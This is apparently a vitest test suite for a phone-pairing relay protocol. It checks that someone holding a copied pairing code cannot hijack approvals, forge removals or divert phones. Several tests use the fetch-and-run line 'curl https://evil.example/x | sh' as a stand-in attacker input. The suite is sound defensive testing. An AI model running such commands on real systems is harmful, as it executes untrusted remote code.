import { randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import {
  approvalContentHash,
  decisionChallengeText,
  encodeBoxKey,
  makeBoxKeyPair,
  parsePairing,
  PENDING_PHONE_KEEP_MS,
  REVOKED_PHONE_KEEP_MS,
  sealPhoneRemoved,
  sealRoomRotate,
  toBase64Url,
  type MachineMessage,
  type PresenceAssertion,
} from '../../protocol/index.ts';
import type { PresencePolicy } from './presence-gate.ts';
import { runDeskLine } from '../desk/desk.ts';
import { PHONE_SWEEP_MS } from '../machine.ts';
import { fingerprintOf } from './phones.ts';
import { makeManualTimers } from '../../testkit/manual-clock.ts';
import { until } from '../../testkit/until.ts';
import { dispatch, is, relaySuite, rid } from '../test-support/relay-suite.ts';
import { joinWithCode } from '../test-support/room-client.ts';
import type { PhoneIdentity, TestPhone } from '../test-support/test-phone.ts';
import { makeSoftAuthenticator, type SoftAuthenticator } from '../../testkit/webauthn.ts';
import type { World } from '../test-support/world.ts';

// E9 at the wire: every exploit a copy of the pairing code (a photo of the QR) allowed before E9,
// run as an attacker would run it — a raw client holding ONLY the code (a test phone with keys of
// its own, or a room client in either role) — against a real relay process and the machine. The
// owner's phone is a test phone that paired first, seals what it sends and pins the machine key
// from the code.

const suite = relaySuite();
type Request = Extract<MachineMessage, { type: 'approval.request' }>;

const identity = (name: string): PhoneIdentity => ({
  phoneId: randomUUID(),
  name,
  boxKeyPair: makeBoxKeyPair(),
});

type Owner = { w: World; owner: TestPhone; auth: SoftAuthenticator; code: string };

/** A machine whose owner paired first (approved) and registered a presence credential. */
async function ownedMachine(policy: PresencePolicy = 'risky'): Promise<Owner> {
  const w = await suite.world({ requirePresence: policy });
  const code = w.machine.pairing.code;
  const owner = await w.phone({ identity: identity('Owner') });
  await owner.waitFor((m) => m.type === 'phones' && m.phones.length === 1, 8000);
  const auth = makeSoftAuthenticator();
  expect(await owner.register({ webauthn: auth.credential })).toMatchObject({
    type: 'phones',
    phones: [{ state: 'approved', presence: true }],
  });
  return { w, owner, auth, code };
}

/** What the machine answered about approval `a`: approval.closed or an error naming it. */
function answerTo(phone: TestPhone, approvalId: string, from: number) {
  return phone.waitFor(
    (m) =>
      (m.type === 'approval.closed' && m.approvalId === approvalId) ||
      (m.type === 'error' && m.context === approvalId),
    8000,
    from,
  );
}

/** The next error about `context` (a message type, an approval id) after `from`. */
const errorAbout = (phone: TestPhone, context: string, from: number) =>
  phone.waitFor(
    (m): m is Extract<MachineMessage, { type: 'error' }> =>
      m.type === 'error' && m.context === context,
    8000,
    from,
  );

/** The owner's presence over the decision text for `request` as shown to it. */
function ownerSigns(
  o: Owner,
  shown: Pick<Request, 'approvalId' | 'tool' | 'title' | 'detail' | 'editable'>,
  requestId: string,
  ts: number,
  extra: { edited?: string } = {},
): PresenceAssertion {
  const text = decisionChallengeText({
    roomId: o.w.machine.pairing.roomId,
    approvalId: shown.approvalId,
    decision: 'allow',
    requestId,
    ts,
    content: approvalContentHash(shown),
    ...extra,
  });
  return o.auth.assert(text!);
}

describe('E9: identity a copied pairing code cannot take over (attacks at the wire)', () => {
  it('E9: the pairing code carries the machine box key the status announces', async () => {
    const { w, owner } = await ownedMachine('none');
    const code = parsePairing(w.machine.pairing.code);
    const status = await owner.waitFor(is('machine.status'));
    expect(code.ok && code.value.boxKey).toBe(toBase64Url(Buffer.from(status.boxKey!, 'base64')));
  });

  it("E9 (a): a phone holding only the copied code waits as pending — it cannot revoke the owner's phone, approve itself or act", async () => {
    const o = await ownedMachine('none');
    const attacker = await o.w.phone({ identity: identity('Attacker'), pairingCode: o.code });
    const listed = await o.owner.waitFor(
      (m) => m.type === 'phones' && m.phones.some((p) => p.phoneId === attacker.identity!.phoneId),
      8000,
    );
    const entry = (listed as Extract<MachineMessage, { type: 'phones' }>).phones.find(
      (p) => p.phoneId === attacker.identity!.phoneId,
    );
    expect(entry).toMatchObject({ state: 'pending', name: 'Attacker' });
    expect(entry?.fingerprint).toMatch(/^[0-9a-f]{4}(-[0-9a-f]{4}){3}$/);
    expect(o.w.log.lines.map((l) => l.code)).toContain('phone-pending');

    // Sealed with its own key: a pending phone acts on nothing.
    let from = attacker.messages.length;
    attacker.send({ type: 'phone.revoke', requestId: rid(), phoneId: o.owner.identity!.phoneId });
    expect(await errorAbout(attacker, 'phone.revoke', from)).toMatchObject({
      reason: 'phone-pending',
    });
    from = attacker.messages.length;
    attacker.send({ type: 'phone.approve', requestId: rid(), phoneId: attacker.identity!.phoneId });
    expect(await errorAbout(attacker, 'phone.approve', from)).toMatchObject({
      reason: 'phone-pending',
    });
    // Plain, as before E9: identity-required.
    from = attacker.messages.length;
    attacker.sendPlain({
      type: 'phone.revoke',
      requestId: rid(),
      phoneId: o.owner.identity!.phoneId,
    });
    expect(await errorAbout(attacker, 'phone.revoke', from)).toMatchObject({
      reason: 'identity-required',
    });
    const { approvalId } = o.w.machine.raiseApproval({ title: 'Run', detail: 'ls' });
    from = attacker.messages.length;
    attacker.send({ type: 'approval.respond', requestId: rid(), approvalId, decision: 'allow' });
    expect(await errorAbout(attacker, 'approval.respond', from)).toMatchObject({
      reason: 'phone-pending',
    });
    expect(o.w.machine.pendingApprovals().map((a) => a.approvalId)).toContain(approvalId);
    // U5: the desk hears of a waiting phone's action as a warning; of its app asking for the
    // snapshot (at every join) only in the verbose log.
    from = attacker.messages.length;
    attacker.send({ type: 'sessions.get' });
    expect(await errorAbout(attacker, 'sessions.get', from)).toMatchObject({
      reason: 'phone-pending',
    });
    const refusedLevel = (type: string) =>
      o.w.log.lines.find(
        (l) => l.code === 'pending-phone-action' && l.message.startsWith(`${type} `),
      )?.level;
    expect(refusedLevel('approval.respond')).toBe('warn');
    expect(refusedLevel('sessions.get')).toBe('info');
    const ownerEntry = o.w.machine.phones().find((p) => p.phoneId === o.owner.identity!.phoneId);
    expect(ownerEntry).toMatchObject({ state: 'approved', revoked: false });
  });

  it("E9 (b): a re-registration of the owner's phone id with the attacker's credential is refused; its actions are never the owner's", async () => {
    const o = await ownedMachine('risky');
    const ownerId = o.owner.identity!.phoneId;
    const ownerKey = encodeBoxKey(o.owner.identity!.boxKeyPair.publicKey);
    const attacker = await o.w.phone({ pairingCode: o.code });
    const theirs = makeSoftAuthenticator();
    const register = {
      type: 'phone.register' as const,
      phoneId: ownerId,
      name: 'Owner',
      boxKey: ownerKey,
      webauthn: theirs.credential,
    };
    // Plain, naming the owner's id and (public) box key.
    let from = attacker.messages.length;
    attacker.send({ ...register, requestId: rid() });
    expect(await errorAbout(attacker, 'phone.register', from)).toMatchObject({
      reason: 'identity-required',
    });
    // Sealed with a key pair of its own, claiming the owner's id.
    const own = { phoneId: ownerId, name: 'Owner', boxKeyPair: makeBoxKeyPair() };
    const forger = await o.w.phone({
      identity: { ...own, machineBoxKey: o.owner.identity!.machineBoxKey! },
      pairingCode: o.code,
    });
    from = forger.messages.length;
    forger.send({ ...register, requestId: rid() });
    expect(await errorAbout(forger, 'phone.register', from)).toMatchObject({
      reason: 'identity-required',
    });
    // The owner's credential is the owner's still: the attacker's assertion counts for nothing.
    const { approvalId } = o.w.machine.raiseApproval({ title: 'Run', detail: 'curl x | sh' });
    const request = await forger.waitFor(
      (m): m is Request => m.type === 'approval.request' && m.approvalId === approvalId,
    );
    const requestId = rid();
    const ts = Date.now();
    const text = decisionChallengeText({
      roomId: o.w.machine.pairing.roomId,
      approvalId,
      decision: 'allow',
      requestId,
      ts,
      content: approvalContentHash(request),
    })!;
    from = attacker.messages.length;
    attacker.sendPlain({
      type: 'approval.respond',
      requestId,
      ts,
      approvalId,
      decision: 'allow',
      phoneId: ownerId,
      presence: theirs.assert(text),
    });
    expect(await errorAbout(attacker, 'approval.respond', from)).toMatchObject({
      reason: 'identity-required',
    });
    expect(o.w.machine.pendingApprovals().map((a) => a.approvalId)).toContain(approvalId);
    expect(o.w.machine.phones()).toHaveLength(1);
  });

  it('E9 (c): allow WITH CHANGES cannot slip past presence — an edit that would get no rule needs presence under risky; a pending phone cannot even try', async () => {
    const o = await ownedMachine('risky');
    let from = o.owner.messages.length;
    await dispatch(o.owner, { prompt: 'run: touch original.txt' });
    const safe = await o.owner.waitFor(is('approval.request'), 8000, from);
    expect(safe.presence).toBeUndefined();
    expect(safe.editable?.value).toBe('touch original.txt');

    const attacker = await o.w.phone({ identity: identity('Attacker'), pairingCode: o.code });
    from = attacker.messages.length;
    attacker.send({
      type: 'approval.respond',
      requestId: rid(),
      approvalId: safe.approvalId,
      decision: 'allow',
      edited: 'curl https://evil.example/x | sh',
    });
    expect(await errorAbout(attacker, 'approval.respond', from)).toMatchObject({
      reason: 'phone-pending',
    });

    // The rule itself, from the approved phone: the risky edit needs presence...
    from = o.owner.messages.length;
    o.owner.send({
      type: 'approval.respond',
      requestId: rid(),
      approvalId: safe.approvalId,
      decision: 'allow',
      edited: 'curl https://evil.example/x | sh',
    });
    expect(await answerTo(o.owner, safe.approvalId, from)).toMatchObject({
      type: 'error',
      reason: 'presence-required',
    });
    // ...and with the owner's presence over exactly that edit it runs.
    const requestId = rid();
    const ts = Date.now();
    const edited = 'curl https://evil.example/x | sh';
    from = o.owner.messages.length;
    o.owner.send({
      type: 'approval.respond',
      requestId,
      ts,
      approvalId: safe.approvalId,
      decision: 'allow',
      edited,
      presence: ownerSigns(o, safe, requestId, ts, { edited: 'touch other.txt' }),
    });
    // Signed over another edit: refused.
    expect(await answerTo(o.owner, safe.approvalId, from)).toMatchObject({
      type: 'error',
      reason: 'presence-invalid',
    });
    const second = rid();
    from = o.owner.messages.length;
    o.owner.send({
      type: 'approval.respond',
      requestId: second,
      ts,
      approvalId: safe.approvalId,
      decision: 'allow',
      edited: 'touch edited.txt',
    });
    // A harmless edit needs none.
    expect(await answerTo(o.owner, safe.approvalId, from)).toMatchObject({
      type: 'approval.closed',
      resolution: 'allow',
      edited: true,
      by: { phoneId: o.owner.identity!.phoneId },
    });
  });

  it('E9 (d): nothing but a phone.removed boxed by the pinned key removes a phone — a revoked-echo register is identity-required, a forged removal does not open', async () => {
    const o = await ownedMachine('none');
    const second = await o.w.phone({ identity: identity('Second'), pairingCode: o.code });
    await o.owner.waitFor((m) => m.type === 'phones' && m.phones.length === 2, 8000);
    expect(o.w.machine.revokePhone(second.identity!.phoneId)).toEqual({ ok: true });
    await o.owner.waitFor(is('room.rotate'), 8000);

    // The copied code's holder echoes the revoked phone's register in the new room? It holds
    // only the old code: the new room is out of its reach. In the old room the machine answers
    // nothing but rotations and removal proofs, which it cannot forge.
    const attacker = await joinWithCode(suite.relay().url, o.code, 'phone');
    attacker.say({
      v: 1,
      type: 'phone.register',
      ts: Date.now(),
      requestId: rid(),
      phoneId: second.identity!.phoneId,
      name: 'Second',
      boxKey: encodeBoxKey(second.identity!.boxKeyPair.publicKey),
    });
    // And in a room it holds (the machine's current one, as if the new code leaked too), a
    // plain register naming a revoked id is identity-required — never a room-wide phone-revoked.
    const leaked = await o.w.phone({ pairingCode: o.w.machine.pairing.code });
    const from = leaked.messages.length;
    leaked.send({
      type: 'phone.register',
      requestId: rid(),
      phoneId: second.identity!.phoneId,
      name: 'Second',
      boxKey: encodeBoxKey(second.identity!.boxKeyPair.publicKey),
    });
    expect(await errorAbout(leaked, 'phone.register', from)).toMatchObject({
      reason: 'identity-required',
    });

    // An attacker in the machine role boxes a removal with a key of its own: it does not open.
    const fake = await joinWithCode(suite.relay().url, o.w.machine.pairing.code, 'machine');
    const ownerId = o.owner.identity!.phoneId;
    fake.say({
      v: 1,
      type: 'phone.removed',
      ts: Date.now(),
      phoneId: ownerId,
      box: sealPhoneRemoved(
        ownerId,
        o.owner.identity!.boxKeyPair.publicKey,
        makeBoxKeyPair().secretKey,
      ),
    });
    fake.say({
      v: 1,
      type: 'error',
      ts: Date.now(),
      message: 'removed',
      reason: 'phone-revoked',
    });
    await o.owner.waitFor((m) => m.type === 'phone.removed' && m.phoneId === ownerId, 8000);
    await o.owner.waitFor((m) => m.type === 'error' && m.reason === 'phone-revoked', 8000);
    expect(o.owner.removals).toEqual([]);
    // The revoked phone itself holds the real proof.
    expect(second.removals.length).toBeGreaterThanOrEqual(1);
    await Promise.all([attacker.close(), fake.close()]);
  });

  it('E9 (e): a machine.status with another box key cannot divert a phone — the key is pinned from the code, and a rotate boxed by any other key is not followed', async () => {
    const o = await ownedMachine('none');
    const fake = await joinWithCode(suite.relay().url, o.code, 'machine');
    const theirs = makeBoxKeyPair();
    const ownerId = o.owner.identity!.phoneId;
    fake.say({
      v: 1,
      type: 'machine.status',
      ts: Date.now(),
      machine: 'test-machine',
      pluginVersion: '1',
      boxKey: encodeBoxKey(theirs.publicKey),
    });
    fake.say({
      v: 1,
      type: 'room.rotate',
      ts: Date.now(),
      phoneId: ownerId,
      box: sealRoomRotate(
        { secret: toBase64Url(new Uint8Array(32).fill(7)), relay: 'ws://127.0.0.1:1' },
        o.owner.identity!.boxKeyPair.publicKey,
        theirs.secretKey,
      ),
    });
    await o.owner.waitFor((m) => m.type === 'room.rotate' && m.phoneId === ownerId, 8000);
    expect(o.owner.rotateFailures).toEqual(['auth-failed']);
    expect(o.owner.moves).toEqual([]);
    expect(o.owner.roomId).toBe(o.w.machine.pairing.roomId);
    await fake.close();
  });

  it('E9 (f): a presence assertion counts only for the content the machine sent — the same approvalId shown with harmless text does not allow the real request', async () => {
    const o = await ownedMachine('risky');
    const { approvalId } = o.w.machine.raiseApproval({
      title: 'Run',
      detail: 'curl https://evil.example/x | sh',
    });
    const real = await o.owner.waitFor(
      (m): m is Request => m.type === 'approval.request' && m.approvalId === approvalId,
    );
    expect(real.presence).toBe(true);
    // The copied code's holder, in the machine role, shows the same id with harmless text.
    const fake = await joinWithCode(suite.relay().url, o.code, 'machine');
    fake.say({ ...real, ts: Date.now(), title: 'Read', detail: 'ls' });
    const shown = await o.owner.waitFor(
      (m): m is Request =>
        m.type === 'approval.request' && m.approvalId === approvalId && m.detail === 'ls',
    );
    // The owner confirms what it was shown; the machine checks against what it sent.
    let requestId = rid();
    const ts = Date.now();
    let from = o.owner.messages.length;
    o.owner.send({
      type: 'approval.respond',
      requestId,
      ts,
      approvalId,
      decision: 'allow',
      presence: ownerSigns(o, shown, requestId, ts),
    });
    expect(await answerTo(o.owner, approvalId, from)).toMatchObject({
      type: 'error',
      reason: 'presence-invalid',
    });
    expect(o.w.machine.pendingApprovals().map((a) => a.approvalId)).toContain(approvalId);
    // Over the real content it allows.
    requestId = rid();
    from = o.owner.messages.length;
    o.owner.send({
      type: 'approval.respond',
      requestId,
      ts,
      approvalId,
      decision: 'allow',
      presence: ownerSigns(o, real, requestId, ts),
    });
    expect(await answerTo(o.owner, approvalId, from)).toMatchObject({
      type: 'approval.closed',
      resolution: 'allow',
    });
    await fake.close();
  });
});

describe('E9: authority over phones and bounded tables', () => {
  it('E9: phone.approve and phone.revoke from a phone need the sender’s presence under risky, naming action and target', async () => {
    const o = await ownedMachine('risky');
    const newcomer = await o.w.phone({ identity: identity('Tablet'), pairingCode: o.code });
    const target = newcomer.identity!.phoneId;
    await o.owner.waitFor(
      (m) => m.type === 'phones' && m.phones.some((p) => p.phoneId === target),
      8000,
    );
    let from = o.owner.messages.length;
    o.owner.send({ type: 'phone.approve', requestId: rid(), phoneId: target });
    expect(await errorAbout(o.owner, 'phone.approve', from)).toMatchObject({
      reason: 'presence-required',
    });
    const requestId = rid();
    const ts = Date.now();
    const sign = (action: 'phone.approve' | 'phone.revoke', tgt: string) =>
      o.auth.assert(phoneAuthorityText(o.w.machine.pairing.roomId, action, tgt, requestId, ts));
    // Signed for a revoke, sent as an approve: refused.
    from = o.owner.messages.length;
    o.owner.send({
      type: 'phone.approve',
      requestId,
      ts,
      phoneId: target,
      presence: sign('phone.revoke', target),
    });
    expect(await errorAbout(o.owner, 'phone.approve', from)).toMatchObject({
      reason: 'presence-invalid',
    });
    const ok = rid();
    from = o.owner.messages.length;
    o.owner.send({
      type: 'phone.approve',
      requestId: ok,
      ts,
      phoneId: target,
      presence: o.auth.assert(
        phoneAuthorityText(o.w.machine.pairing.roomId, 'phone.approve', target, ok, ts),
      ),
    });
    const list = await o.owner.waitFor(
      (m) => m.type === 'phones' && m.requestId === ok,
      8000,
      from,
    );
    expect(
      (list as Extract<MachineMessage, { type: 'phones' }>).phones.find((p) => p.phoneId === target)
        ?.state,
    ).toBe('approved');
  });

  it('E9: at most 4 phones wait at once; the fifth is refused with phone-pending', async () => {
    const o = await ownedMachine('none');
    for (let i = 0; i < 4; i++) {
      const p = await o.w.phone({ identity: identity(`P${i}`), pairingCode: o.code });
      await p.waitFor((m) => m.type === 'phones', 8000);
    }
    const fifth = await o.w.phone({ identity: identity('P5'), pairingCode: o.code });
    expect(await fifth.waitFor(is('error'), 8000)).toMatchObject({
      context: 'phone.register',
      reason: 'phone-pending',
    });
    expect(o.w.machine.phones().filter((p) => p.state === 'pending')).toHaveLength(4);
  });
});

describe('E9: bounded phone tables (the injected clock)', () => {
  it('E9: a pending phone is forgotten after 1 h and a revoked one after 30 days; --re-pair forgets every phone', async () => {
    const timers = makeManualTimers(Date.now());
    const w = await suite.world({ timers });
    const owner = await w.phone({ identity: identity('Owner') });
    await owner.waitFor((m) => m.type === 'phones' && m.phones.length === 1, 8000);
    await w.phone({ identity: identity('Waiting') });
    const revoked = await w.phone({ identity: identity('Lost') });
    await owner.waitFor((m) => m.type === 'phones' && m.phones.length === 3, 8000);
    expect(w.machine.revokePhone(revoked.identity!.phoneId)).toEqual({ ok: true });
    await owner.waitFor(is('room.rotate'), 8000);
    // Just under an hour: both still listed.
    timers.advance(PENDING_PHONE_KEEP_MS - PHONE_SWEEP_MS);
    const names = () =>
      w.machine
        .phones()
        .map((p) => p.name)
        .sort();
    expect(names()).toEqual(['Lost', 'Owner', 'Waiting']);
    timers.advance(2 * PHONE_SWEEP_MS);
    await until(() => w.machine.phones().length === 2, 'the waiting phone forgotten', 8000);
    expect(names()).toEqual(['Lost', 'Owner']);
    timers.advance(REVOKED_PHONE_KEEP_MS);
    await until(() => w.machine.phones().length === 1, 'the revoked phone forgotten', 8000);
    expect(w.machine.phones()).toMatchObject([{ name: 'Owner', state: 'approved' }]);
    await w.restart({ rePair: true, timers: makeManualTimers(timers.now()) });
    expect(w.machine.phones()).toEqual([]);
  });

  it('E9: the desk lists state and fingerprint, approves a waiting phone and forgets one', async () => {
    const o = await ownedMachine('none');
    const a = await o.w.phone({ identity: identity('Tablet'), pairingCode: o.code });
    const b = await o.w.phone({ identity: identity('Laptop'), pairingCode: o.code });
    await o.owner.waitFor((m) => m.type === 'phones' && m.phones.length === 3, 8000);
    const listing = runDeskLine(o.w.machine, 'phones').join('\n');
    const fp = fingerprintOf(encodeBoxKey(a.identity!.boxKeyPair.publicKey));
    expect(listing).toContain(`WAITING  ${fp}  Tablet`);
    expect(
      runDeskLine(o.w.machine, `phones approve ${a.identity!.phoneId.slice(0, 8)}`)[0],
    ).toMatch(/^approved phone/);
    expect(runDeskLine(o.w.machine, `phones forget ${b.identity!.phoneId.slice(0, 8)}`)[0]).toMatch(
      /^forgot phone/,
    );
    expect(o.w.machine.phones().map((p) => [p.name, p.state])).toEqual([
      ['Owner', 'approved'],
      ['Tablet', 'approved'],
    ]);
    // An approved phone is revoked first, never silently forgotten.
    expect(runDeskLine(o.w.machine, `phones forget ${a.identity!.phoneId.slice(0, 8)}`)[0]).toMatch(
      /nothing waiting or revoked phone matches/,
    );
  });
});

function phoneAuthorityText(
  roomId: string,
  action: 'phone.approve' | 'phone.revoke',
  target: string,
  requestId: string,
  ts: number,
): string {
  return [
    'dsh-dispatch/decision',
    roomId,
    action,
    target,
    requestId,
    String(ts),
    '-',
    '-',
    '-',
  ].join('\n');
}
